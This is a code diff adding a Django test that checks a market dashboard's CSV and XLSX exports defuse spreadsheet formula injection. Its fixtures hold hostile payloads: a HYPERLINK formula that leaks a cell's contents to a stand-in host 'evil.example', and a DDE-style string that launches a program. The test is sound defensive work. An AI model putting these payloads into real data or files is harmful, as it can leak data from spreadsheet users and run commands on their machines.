@@ -15,8 +15,10 @@ from django.utils import timezone
 from django.views.static import serve
 from openpyxl import load_workbook
 
-from pasar.accounts.models import OfficerAssignment
+from pasar.accounts.models import OfficerAssignment, User
+from pasar.catalog.models import Commodity
 from pasar.core.errors import DomainError
+from pasar.core.spreadsheet import is_formula
 from pasar.dashboards import selectors
 from pasar.dashboards.aggregation import aggregate_day
 from pasar.dashboards.exports import PROGRESS_EVERY, Table, export_build, export_request, exports_expire, write_csv
@@ -25,6 +27,7 @@ from pasar.dashboards.periods import preset
 from pasar.dashboards.tests import builders
 from pasar.markets.models import Market, MarketRole
 from pasar.testing import factories
+from pasar.traders.models import Stall, Trader
 
 
 @pytest.fixture
@@ -249,3 +252,40 @@ def test_migration_moves_public_export_files_to_private_storage(sales, settings)
     assert export.file.name.startswith("exports/")
     assert "pasar-days" not in export.file.name
     assert content(export) == b"a,b\n"
+
+
+EVIL = '=HYPERLINK("http://evil.example/?leak="&B2,"Klik")'
+
+
+def _cells(export):
+    data = content(export)
+    if export.format == Export.Format.CSV:
+        return [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for cell in row], []
+    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
+    cells = [cell for row in sheet.iter_rows() for cell in row]
+    return [c.value for c in cells if isinstance(c.value, str)], [c.coordinate for c in cells if c.data_type == "f"]
+
+
+@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
+def test_every_export_writes_formula_like_text_inert(sales, file_format):
+    world, operator = sales
+    market = world.markets[0]
+    # Text from people and imports that a spreadsheet would run: in every text column of every export.
+    market.name = "@SUM(1+1)*cmd|' /C calc'!A0"
+    market.save(update_fields=["name"])
+    User.objects.filter(pk=world.stalls[0].trader.user_id).update(name=EVIL)
+    Stall.objects.filter(pk=world.stalls[0].pk).update(name="+1+1")
+    Commodity.objects.filter(pk=Commodity.objects.order_by("pk").values("pk")[:1]).update(name="-2+3")
+    trained = factories.trader(name="=1+1")
+    Trader.objects.filter(pk=trained.pk).update(status=Trader.Status.TRAINED)
+    factories.stall(market=market, trader_obj=trained)
+    period = preset("7", timezone.localdate())
+
+    seen: set[str] = set()
+    for kind in Export.Kind.values:
+        export = built(export_request(user=operator, kind=kind, file_format=file_format, period=period, market=market))
+        texts, formulas = _cells(export)
+        assert formulas == []
+        assert [t for t in texts if is_formula(t)] == []
+        seen |= {t for t in texts if t.startswith("'")}
+    assert seen >= {"'@SUM(1+1)*cmd|' /C calc'!A0", "'" + EVIL, "'+1+1", "'-2+3", "'=1+1"}
